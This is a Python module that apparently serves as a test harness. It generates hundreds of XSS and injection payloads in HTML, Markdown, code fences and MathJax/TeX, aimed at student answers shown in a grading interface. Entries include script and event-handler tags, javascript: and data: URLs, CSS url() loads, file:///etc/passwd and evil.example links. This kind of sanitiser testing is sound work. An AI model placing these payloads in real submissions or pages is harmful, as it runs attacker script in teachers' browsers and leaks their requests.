"""Payloads: written answers that try to run, to load or to send something when a teacher reads them.

from payloads import payloads

for text in payloads("http://127.0.0.1:8000"):
"""

from __future__ import annotations

from collections.abc import Iterator

#: raw HTML; U is an address that counts requests
HTML = """
<script>alert(1)</script>
<script src=U/s></script>
<ScRiPt src="U/s2"></sCrIpT>
<script/src=U/s3></script>
<img src=U/i>
<img src=x onerror=alert(1)>
<img/src='x'/onerror='alert(1)'>
<img srcset="U/a 1x, U/b 2x">
<img src=x:x onerror=alert(1) //
<picture><source srcset=U/p><img></picture>
<svg onload=alert(1)>
<svg><image href="U/si" /></svg>
<svg><image xlink:href="U/sx" /></svg>
<svg><use href="U/u#a" /></svg>
<svg><script href="U/ss" /></svg>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><foreignObject><iframe src=U/f></foreignObject></svg>
<svg><style>@import 'U/sst';</style></svg>
<svg><filter><feImage href="U/fe"/></filter></svg>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math href="javascript:alert(1)"><mtext>x</mtext></math>
<math><maction actiontype="statusline#U/m" xlink:href="javascript:alert(1)">x</maction></math>
<iframe src=U/fr></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="<img src=U/fd>"></iframe>
<frameset><frame src=U/fs></frameset>
<embed src=U/e>
<object data=U/o></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<applet code=U/ap></applet>
<audio src=U/au autoplay></audio>
<video poster=U/vp src=U/vs></video>
<video><source onerror=alert(1)></video>
<audio><track src=U/tr default></audio>
<link rel=stylesheet href=U/l>
<link rel=prefetch href=U/lp>
<link rel=preload as=image href=U/lo>
<link rel=dns-prefetch href=//evil.example>
<link rel=preconnect href=U/pc>
<link rel=import href=U/im>
<link rel=icon href=U/ic>
<link rel=manifest href=U/ma>
<link rel=modulepreload href=U/mp>
<style>@import url(U/st);</style>
<style>*{background:url(U/bg)}</style>
<style>body{background-image:image-set("U/is" 1x)}</style>
<style>@font-face{font-family:x;src:url(U/ff)}*{font-family:x}</style>
<style>*{cursor:url(U/cu),auto;list-style:url(U/ls);content:url(U/ct)}</style>
<div style="background:url(U/d)">x</div>
<div style="background:url('U/d2')">x</div>
<div style="background-image:u\\72l(U/d3)">x</div>
<p style="border-image:url(U/bi) 1">x</p>
<p style="mask:url(U/mk)">x</p>
<p style="width:expression(alert(1))">x</p>
<b style="position:fixed;top:0;left:0;width:100%;height:100%">x</b>
<table background=U/tb><td background=U/td>x</table>
<body background=U/by>
<body onload=alert(1)>
<base href=U/base/>
<base target=_top href="U/">
<meta http-equiv=refresh content="0;url=U/mr">
<meta http-equiv="refresh" content="0;URL='javascript:alert(1)'">
<meta http-equiv="Set-Cookie" content="a=b">
<meta http-equiv=Link content="<U/ml>; rel=stylesheet">
<form action=U/fo><input name=a autofocus onfocus=alert(1)></form>
<form id=x></form><button form=x formaction=javascript:alert(1)>y</button>
<input type=image src=U/ii>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<textarea></textarea><img src=x onerror=alert(1)>
<keygen autofocus onfocus=alert(1)>
<isindex action=javascript:alert(1) type=image>
<details open ontoggle=alert(1)>
<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>
<marquee onstart=alert(1)>x</marquee>
<a href=javascript:alert(1)>x</a>
<a href="U/a" ping=U/ping>x</a>
<a href=//evil.example>x</a>
<area href=javascript:alert(1)>
<bgsound src=U/bs>
<layer src=U/la></layer>
<xml src=U/xm></xml>
<xss id=x tabindex=1 onfocus=alert(1) autofocus></xss>
<div contenteditable autofocus onfocus=alert(1)>x</div>
<p popover onbeforetoggle=alert(1)>x</p>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<template><img src=U/te></template>
<portal src=U/po></portal>
<fencedframe src=U/fen></fencedframe>
<script type=module>import "U/mo"</script>
<script type="text/x-mathjax-config">alert(1)</script>
<script type="math/tex">\\href{javascript:alert(1)}{x}</script>
<span class="MathJax_Preview"></span><script type="math/mml"><math href="javascript:alert(1)"/></script>
<span class="tex2jax_process mathjax_process">$\\href{javascript:alert(1)}{x}$</span>
<!--><img src=x onerror=alert(1)>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="U/xs"?>
<?php echo '<img src=x onerror=alert(1)>' ?>
<!DOCTYPE html SYSTEM "U/dt">
</div></div></div><script>alert(1)</script>
</pre><script>alert(1)</script>
</code></pre><img src=x onerror=alert(1)>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
<<script>alert(1)//<</script>
<img src="x` `<script>alert(1)</script>"` `>
<a title="&quot;><img src=x onerror=alert(1)>">x</a>
<img alt="<x" title="/><img src=x onerror=alert(1)>">
"><img src=x onerror=alert(1)>
'><svg/onload=alert(1)>
&lt;img src=x onerror=alert(1)&gt;
&#60;img src=x onerror=alert(1)&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
\\<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)
<img\fsrc=x\fonerror=alert(1)>
<img\tsrc=x\tonerror=alert(1)>
""".strip().split("\n")

#: Markdown; in each line LINK is every address of ADDRESSES in turn
MARKDOWN = r"""
![a](LINK)
![a](<LINK>)
![a](LINK "t")
![a](LINK 't" onerror="alert(1)')
![a" onerror="alert(1)](LINK)
![<img src=LINK>](LINK)
![![a](LINK)](LINK)
[![a](LINK)](LINK)
[a](LINK)
[a](<LINK>)
[a](LINK "t\" onmouseover=\"alert(1)")
[a](LINK" autofocus onfocus="alert(1))
[<img src=LINK>](LINK)
<LINK>
LINK
![a][r]\n\n[r]: LINK
![r]\n\n[r]: <LINK> "t"
[a][r]\n\n[r]: LINK 'x" onerror="alert(1)'
> ![a](LINK)
- ![a](LINK)
1. ![a](LINK)
# ![a](LINK)
|a|b|\n|-|-|\n|![a](LINK)|[b](LINK)|
**![a](LINK)**
~~![a](LINK)~~
``![a](LINK)`` ![b](LINK)
a\n: ![b](LINK)
![a](files/LINK)
[a](files/LINK)
[a](/files/LINK)
![a](attachment:LINK)
![a](attachment:x.png"onerror="alert(1))
[^1]\n\n[^1]: ![a](LINK)
*[a]: LINK\n\na
$![a](LINK)$
$$![a](LINK)$$
""".strip().split("\n")
ADDRESSES = """
U/md
//evil.example/md
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript&colon;alert(1)
&#106;avascript:alert(1)
java&Tab;script:alert(1)
%6aavascript:alert(1)
\x01javascript:alert(1)
vbscript:msgbox(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg/onload=alert(1)>
blob:U/b
file:///etc/passwd
ftp://127.0.0.1/x
/formgrader/api/grade
../../x
?x
#x
""".strip().split("\n")

#: blocks of code, in which another program may be hidden
FENCES = r"""
```mermaid\n</pre><img src=x onerror=alert(1)><script>alert(1)</script>\n```
```mermaid\ngraph TD; A@{ img: "U/mer" }\n```
```mermaid-x\n<img src=U/mer2>\n```
~~~mermaid\nclick A href "javascript:alert(1)"\n~~~
```html\n<img src=x onerror=alert(1)>\n```
```"><img src=x onerror=alert(1)>\nx\n```
```python class="x" onload=alert(1)\nx\n```
```{=html}\n<script>alert(1)</script>\n```
    <img src=x onerror=alert(1)>
`<img src=x onerror=alert(1)>`
```math\n\href{javascript:alert(1)}{x}\n```
""".strip().split("\n")

#: commands of MathJax 2, 3 and 4 that make links, elements, attributes and macros, or load something
MATHS = r"""
\href{javascript:alert(1)}{x}
\href{U/h}{x}
\url{U/h}
\class{x" onmouseover="alert(1)}{x}
\cssId{notebook}{x}
\style{background:url(U/y)}{x}
\style{position:fixed;top:0}{x}
\data{onclick=alert(1)}{x}
\htmlClass{x}{y} \htmlData{a=b}{y} \htmlId{x}{y} \htmlStyle{background:url(U/y2)}{y}
\require{U/r}
\require{html} \require{[U]/x} \require{../../x}
\bbox[background:url(U/bb)]{x}
\bbox[red,border:1px solid url(U/bc)]{x}
\mmlToken{mi}[href="javascript:alert(1)"]{x}
\mmlToken{mi}[style="background:url(U/mm)"]{x}
\mmlToken{mtext}[id="notebook",class="x"]{x}
\mmlToken{mglyph}[src="U/mg",alt="x"]{}
\mmlToken{ms}[lquote="<img src=x onerror=alert(1)>"]{x}
\includegraphics{U/ig}
\includegraphics[width=1em]{U/ig2}
\enclose{circle}[mathcolor="red",style="background:url(U/en)"]{x}
\cancel[style="background:url(U/ca)"]{x}
\color{url(U/co)}{x}
\colorbox{url(U/cb)}{x} \fcolorbox{red}{url(U/fc)}{x} \textcolor{U}{x} \definecolor{x}{named}{url(U)}
\unicode[url(U/un)]{x41} \unicode[x" onload="alert(1)]{65}
\texttip{x}{<img src=x onerror=alert(1)>} \mathtip{x}{y}
\toggle{\href{javascript:alert(1)}{x}}{y}\endtoggle
\verb|<img src=x onerror=alert(1)>|
\text{<img src=x onerror=alert(1)>}
\text{\href{javascript:alert(1)}{x}}
\mbox{$\href{javascript:alert(1)}{x}$}
\label{x}\ref{x}\eqref{x} \tag{<img src=x onerror=alert(1)>}
\def\x{\href{javascript:alert(1)}{x}}\x
\newcommand{\x}{\href{javascript:alert(1)}}\x{y}
\renewcommand{\frac}[2]{\href{javascript:alert(1)}{#1}} \frac{1}{2}
\let\x=\href \x{javascript:alert(1)}{y}
\newenvironment{matrix}{\href{javascript:alert(1)}{x}}{} \begin{matrix}\end{matrix}
\DeclareMathOperator{\x}{\href{javascript:alert(1)}{y}} \x
\csname href\endcsname{javascript:alert(1)}{x}
\begingroup\global\def\sum{\href{javascript:alert(1)}{x}}\endgroup \sum
\gdef\frac{\href{javascript:alert(1)}{x}}
\catcode`\@=0 @href{javascript:alert(1)}{x}
\input{U/in} \include{U/ic} \write18{x} \openin{x}
\ce{\href{javascript:alert(1)}{x}} \pu{x}
\begin{CD} A @>\href{javascript:alert(1)}{x}>> B \end{CD}
\begin{xy}\xyimport(1,1){U}\end{xy}
\begin{html}<img src=x onerror=alert(1)>\end{html}
\begin{script}alert(1)\end{script}
\begin{array}{*{9999999}{c}}x\end{array}
\begin{array}{@{\href{javascript:alert(1)}{x}}}x\end{array}
\begin{align}\href{javascript:alert(1)}{x}\end{align}
\begin{equation}\mmlToken{mi}[href="javascript:alert(1)"]{x}\end{equation}
\rule{9999em}{9999em} \Rule{9999em}{9999em}{0em} \Space{9999em}{0em}{0em}
\hspace{-9999em} \kern-99em \mskip-99mu \raise99em{x} \lower99em{x} \moveleft99em{x} \hskip9em
x \\[9999em] y
x \\*[9999em] y
\smash{x}\llap{x}\rlap{x}\phantom{x}\hphantom{x}
\hre{}f{javascript:alert(1)}{x}
\HREF{javascript:alert(1)}{x} \Href{javascript:alert(1)}{x}
\ href{javascript:alert(1)}{x}
\href
{javascript:alert(1)}{x}
\href%\href
\frac\href{javascript:alert(1)}{x}{y}
\left\href{javascript:alert(1)}{x} x \right.
\sqrt[\href{javascript:alert(1)}{x}]{y}
x^\href{javascript:alert(1)}{y}
\operatorname{\href{javascript:alert(1)}{x}}
{\rm\href{javascript:alert(1)}{x}}
} \href{javascript:alert(1)}{x} {
</span><script>alert(1)</script>
<img src=x onerror=alert(1)>
&lt;img src=x onerror=alert(1)&gt;
""".strip().split("\n")

_AROUND = (
    "{}",
    "words {} words",
    "> {}",
    "- {}",
    "**{}**",
    "# {}",
    "|a|\n|-|\n|{}|",
    "[{}](x)",
    "![{}](x)",
    "`` ` {}",
    "$x$ {} $y$",
    "<b>{}",
)
_DOLLARS = (
    "${}$",
    "$${}$$",
    "\\\\({}\\\\)",
    "\\\\[{}\\\\]",
    "\\({}\\)",
    "\\begin{{equation}}{}\\end{{equation}}",
    "\\begin{{align*}}{}\\end{{align*}}",
    "$x$ $ {} $y",
    "$\\text{{a ${}$ b}}$",
    "`${}$`",
    "$a$$${}$$$a$",
)


def payloads(address: str) -> Iterator[str]:
    """Give each payload in each place where it might work, with the address that it loads."""
    for html in HTML:
        for around in _AROUND:
            yield around.format(html).replace("U", address)
    for form in MARKDOWN:
        for link in ADDRESSES:
            yield form.replace("LINK", link).replace("\\n", "\n").replace("U/", f"{address}/")
    for fence in FENCES:
        yield fence.replace("\\n", "\n").replace("U/", f"{address}/")
    for maths in MATHS:
        for dollars in _DOLLARS:
            yield dollars.format(maths).replace("U/", f"{address}/")
